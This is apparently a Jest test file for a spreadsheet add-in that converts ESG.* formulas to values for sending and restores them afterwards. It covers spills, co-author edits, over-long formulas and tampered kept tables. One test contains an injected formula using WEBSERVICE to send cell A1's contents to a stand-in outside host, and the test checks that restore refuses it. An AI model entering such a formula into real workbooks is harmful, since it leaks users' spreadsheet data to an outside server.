/**
 * Prepare a copy to send and Restore formulas over BOTH adapters (HyperFormula and the
 * Office.js adapter on the fake Excel): a spill converted and restored cell for cell, a
 * restore refused for a cell changed since, a co-author's edit between read and write, a
 * workbook with no ESG.* cells, and a kept-formulas table edited into something else.
 */
import { KEPT_SHEET, KEPT_TABLE, PREPARE_ACTION, RESTORE_ACTION } from '../../src/travel';
import type { PrepareReview, RestoreReview } from '../../src/travel/types';
import type { CellValue } from '../../src/workbook/port';
import { BENCHES, type Bench } from './support/benches';

jest.setTimeout(60_000);

const BUDGET = "Lead's budget 2015-16"; // a quote and spaces in the sheet name
const GRANT = '=ESG.GRANT(44095,579,0,44769)';
const PROJECT = '=ESG.PROJECT(44095,579,0,44769,"2015-16",3,7047.5)';
// ESG.PROJECT over 3 years spills 5 rows by 6 columns: B4:G8.
const SPILL_CELLS = [4, 5, 6, 7, 8].flatMap((row) => ['B', 'C', 'D', 'E', 'F', 'G'].map((col) => `${col}${row}`));

async function model(b: Bench): Promise<void> {
  await b.addSheet(BUDGET);
  await b.type(BUDGET, 'A1', 'ESG grant');
  await b.type(BUDGET, 'B1', GRANT);
  await b.type(BUDGET, 'B2', '=1+1'); // not an ESG.* formula: left alone
  await b.type(BUDGET, 'B4', PROJECT); // spills
}

function snapshot(b: Bench, cells: readonly string[]): { value: CellValue; formula: string | null }[] {
  return cells.map((c) => b.cell(BUDGET, c));
}

async function reviewed(b: Bench): Promise<PrepareReview> {
  const review = await b.travel.reviewPrepare();
  if (review.kind !== 'prepare-review') throw new Error(`expected a review, got ${review.message}`);
  return review;
}

async function restoreReview(b: Bench): Promise<RestoreReview> {
  const review = await b.travel.reviewRestore();
  if (review.kind !== 'restore-review') throw new Error(`expected a review, got ${review.message}`);
  return review;
}

describe.each(BENCHES)('Prepare and Restore over %s', (_, make) => {
  let b: Bench;
  beforeEach(async () => {
    b = await make();
  });
  afterEach(() => b.close());

  it('says a workbook with no ESG.* cells can be sent as it is, and writes nothing', async () => {
    await b.addSheet('Plain');
    await b.type('Plain', 'A1', '=1+2');
    const review = await b.travel.reviewPrepare();
    expect(review).toEqual({ kind: 'refused', message: expect.stringMatching(/no cells whose formula uses an ESG\.\* function/) });
    expect(b.sheetNames()).toEqual(['Plain']);
    expect(await b.travel.reviewRestore()).toMatchObject({ kind: 'refused', message: expect.stringMatching(/nothing to restore/) });
  });

  it('converts a spill to values and restores it cell for cell', async () => {
    await model(b);
    await b.addLog();
    const before = snapshot(b, ['B1', 'B2', ...SPILL_CELLS]);
    expect(before[2].formula).toBe(PROJECT);
    expect(before[3].formula).toBeNull(); // C4 is part of the spill
    expect(before.slice(2).every((c) => c.value !== '' && !String(c.value).startsWith('#'))).toBe(true);

    const review = await reviewed(b);
    expect(review.cells.map((c) => `${c.sheet}!${c.address}`)).toEqual([`${BUDGET}!B1`, `${BUDGET}!B4`]);
    expect(review.cells[1].spill?.address).toBe('B4:G8');
    expect(review.spilledCells).toBe(29);

    const prepared = await b.travel.prepare(review);
    expect(prepared).toMatchObject({ kind: 'prepared', formulas: 2, spilledCells: 29, sheet: KEPT_SHEET, remaining: 0 });
    const after = snapshot(b, ['B1', 'B2', ...SPILL_CELLS]);
    // Every ESG cell now holds the value it showed, as a constant; the other formula stays.
    after.forEach((cell, i) => expect(cell.value).toBe(before[i].value));
    expect(after.filter((c) => c.formula !== null).map((c) => c.formula)).toEqual(['=1+1']);
    expect(b.sheetNames()).toContain(KEPT_SHEET);
    const kept = (await b.port.read({ tables: [KEPT_TABLE] })).table(KEPT_TABLE);
    expect(kept?.rows.length).toBe(31);
    expect(kept?.rows[0]).toEqual([BUDGET, 'B1', GRANT, before[0].value, '']);
    expect(kept?.rows[2]).toEqual([BUDGET, 'C4', '', before[3].value, 'B4']);

    const review2 = await restoreReview(b);
    expect(review2.items.map((i) => i.address)).toEqual(['B1', 'B4']);
    expect(review2.refused).toEqual([]);
    const restored = await b.travel.restore(review2);
    expect(restored).toMatchObject({ kind: 'restored', formulas: 2, refused: [], sheetRemoved: true });
    expect(snapshot(b, ['B1', 'B2', ...SPILL_CELLS])).toEqual(before);
    expect(b.sheetNames()).not.toContain(KEPT_SHEET);

    const log = await b.logRows();
    expect(log.map((r) => r[1])).toEqual([PREPARE_ACTION, RESTORE_ACTION]);
    expect(String(log[0][3])).toContain('2 ESG.* formula cells');
  });

  it('refuses, and names, a cell someone changed since Prepare; restores the rest', async () => {
    await model(b);
    await b.travel.prepare(await reviewed(b));
    const grant = b.cell(BUDGET, 'B1').value;
    await b.type(BUDGET, 'C5', 99); // inside the spill
    const review = await restoreReview(b);
    expect(review.items.map((i) => i.address)).toEqual(['B1']);
    expect(review.refused).toEqual([{ cell: `${BUDGET}!B4`, reason: expect.stringMatching(/C5 of its spill holds 99/) }]);
    const restored = await b.travel.restore(review);
    expect(restored).toMatchObject({ kind: 'restored', formulas: 1, sheetRemoved: false });
    expect(b.cell(BUDGET, 'B1')).toEqual({ value: grant, formula: GRANT });
    expect(b.cell(BUDGET, 'B4').formula).toBeNull();
    expect(b.cell(BUDGET, 'C5').value).toBe(99);
    // Again: B1 counts as restored already; B4 is still refused; nothing else is written.
    const again = await restoreReview(b);
    expect(again).toMatchObject({ items: [], already: 1, refused: [{ cell: `${BUDGET}!B4` }] });
  });

  it('writes nothing when a co-author edits a listed cell after the list was made', async () => {
    await model(b);
    const review = await reviewed(b);
    await b.type(BUDGET, 'B1', '=ESG.GRANT(44095,579,0,40000)');
    const outcome = await b.travel.prepare(review);
    expect(outcome).toMatchObject({ kind: 'failed', changed: [`${BUDGET}!B1`] });
    expect(b.cell(BUDGET, 'B4').formula).toBe(PROJECT);
    expect(b.sheetNames()).not.toContain(KEPT_SHEET);
  });

  it('writes no value when a co-author edits between the check and the guarded write', async () => {
    await model(b);
    const review = await reviewed(b);
    b.beforeGuardedWrite(() => b.type(BUDGET, 'B1', 12345));
    const outcome = await b.travel.prepare(review);
    expect(outcome).toMatchObject({ kind: 'failed', changed: [`${BUDGET}!B1`] });
    expect(b.cell(BUDGET, 'B1')).toEqual({ value: 12345, formula: null });
    expect(b.cell(BUDGET, 'B4').formula).toBe(PROJECT);
    // The kept sheet it had written is gone again: the workbook is as the co-author left it.
    expect(b.sheetNames()).not.toContain(KEPT_SHEET);
  });

  it('restores nothing when a co-author edits a cell between the restore list and the write', async () => {
    await model(b);
    await b.travel.prepare(await reviewed(b));
    const review = await restoreReview(b);
    b.beforeGuardedWrite(() => b.type(BUDGET, 'B1', 1));
    const outcome = await b.travel.restore(review);
    expect(outcome).toMatchObject({ kind: 'failed', changed: [`${BUDGET}!B1`] });
    expect(b.cell(BUDGET, 'B4').formula).toBeNull();
    expect(b.sheetNames()).toContain(KEPT_SHEET);
  });

  it('never enters a kept formula edited into one that reaches outside the workbook, even beside ESG.*', async () => {
    await model(b);
    await b.travel.prepare(await reviewed(b));
    // Someone edits the kept table: the Formula of B1 becomes another formula's text.
    const kept = (await b.port.read({ tables: [KEPT_TABLE] })).table(KEPT_TABLE)!;
    await b.port.write([{ kind: 'setTableColumn', table: KEPT_TABLE, column: 'Formula', values: kept.rows.map((r, i) => (i === 0 ? '=ESG.GRANT(44095,579,0,44769)+0*WEBSERVICE("https://example.invalid/?"&A1)' : r[2])), keys: { column: 'Formula', values: kept.rows.map((r) => r[2]) } }]);
    const review = await restoreReview(b);
    expect(review.refused).toEqual([{ cell: `${BUDGET}!B1`, reason: expect.stringMatching(/reaches outside the workbook/) }]);
    await b.travel.restore(review);
    expect(b.cell(BUDGET, 'B1').formula).toBeNull();
    expect(b.cell(BUDGET, 'B4').formula).toBe(PROJECT);
  });

  it('refuses a formula longer than a cell can keep as text, and names it', async () => {
    await b.addSheet('S');
    await b.type('S', 'A1', `=ESG.GRANT(44095,579,0,44769)+0*LEN("${'x'.repeat(33_000)}")`);
    expect(await b.travel.reviewPrepare()).toEqual({ kind: 'refused', message: expect.stringContaining('longer than a cell can keep (32,767 characters): S!A1') });
    expect(b.sheetNames()).toEqual(['S']);
  });

  it('keeps text that looks like a formula as text, both ways', async () => {
    await b.addSheet('S');
    await b.type('S', 'A1', '=IF(TRUE,"=ESG.GRANT(1)","")&ESG.YEAR.LABEL(2015)');
    await b.type('S', 'A2', '=ESG.GRANT(44095,579,0,44769)');
    const review = await reviewed(b);
    await b.travel.prepare(review);
    for (const c of review.cells) expect(b.cell('S', c.address)).toEqual({ value: c.value, formula: null });
    await b.travel.restore(await restoreReview(b));
    for (const c of review.cells) expect(b.cell('S', c.address).formula).toBe(c.formula);
  });

  it('marks the workbook once: loads with it, and one plain-text line on Inputs', async () => {
    await b.addSheet('Inputs');
    await b.type('Inputs', 'A1', 'Inputs');
    await b.type('Inputs', 'B3', 5);
    const first = await b.travel.mark();
    expect(first).toEqual({ kind: 'marked', startup: 'load', note: { cell: 'Inputs!A5', added: true } });
    expect(b.cell('Inputs', 'A5')).toEqual({ value: expect.stringMatching(/^The ESG\.\* cells in this workbook need the School Funding Toolkit/), formula: null });
    const second = await b.travel.mark();
    expect(second).toMatchObject({ note: { cell: 'Inputs!A5', added: false } });
    expect(b.startup.calls).toBe(2);
  });
});
